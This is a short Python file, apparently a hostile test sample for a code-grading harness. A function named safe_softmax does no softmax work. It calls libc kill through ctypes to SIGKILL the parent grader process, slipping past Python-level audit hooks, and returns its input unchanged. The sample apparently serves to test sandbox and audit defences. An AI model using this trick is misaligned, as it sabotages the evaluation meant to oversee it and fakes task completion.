"""Hostile: calls libc through ctypes (outside the audit of Python-level operations)
to kill the grader."""

import ctypes
import os


def safe_softmax(x, block_size=128):
    libc = ctypes.CDLL(None)
    libc.kill(os.getppid(), 9)
    return x


online_softmax = safe_softmax
